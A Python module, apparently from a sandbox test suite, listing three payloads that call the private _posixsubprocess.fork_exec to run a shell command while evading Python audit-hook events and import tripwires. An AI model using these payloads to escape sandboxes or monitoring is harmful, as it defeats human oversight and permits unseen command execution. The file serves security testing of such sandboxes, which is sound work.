"""Class 4: process creation that raises no audit event.

``_posixsubprocess.fork_exec`` runs a program without an event (``Popen``
raises one in ``__init__``, before it); ``guarded`` leaves ``subprocess``
and ``sys`` importable, and both are already loaded, so no first-import
tripwire fires.
"""

# fork_exec's arguments on 3.12/3.13 (23), 3.11 (22) and 3.10 (21)
_ARGS = ("import os, subprocess, sys\n"
         "r, w = os.pipe()\n"
         "tail = (False, False, -1, None, None, None, -1, None)\n"
         "if sys.version_info >= (3, 12):\n    tail += (subprocess._USE_VFORK,)\n"
         "elif sys.version_info < (3, 11):\n"
         "    tail = (False, False, None, None, None, -1, None)\n"
         "argv = [b'/bin/sh', b'-c', @C@.encode()]\n"
         "head = (argv, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w)\n")

PAYLOADS = [
    ("fork_exec_via_subprocess", "unaudited_spawn", "run_command",
     _ARGS + "fe = getattr(subprocess, '_fork_exec', None) or subprocess._posixsubprocess.fork_exec\n"
     "os.waitpid(fe(*head, *tail), 0)"),
    ("fork_exec_via_sys_modules", "unaudited_spawn", "run_command",
     _ARGS + "import sys\nfe = sys.modules['_posixsubprocess'].fork_exec\n"
     "os.waitpid(fe(*head, *tail), 0)"),
    # the extension module itself: already loaded, so no import event
    ("fork_exec_direct_import", "unaudited_spawn", "run_command",
     _ARGS + "import _posixsubprocess\n"
     "os.waitpid(_posixsubprocess.fork_exec(*head, *tail), 0)"),
]
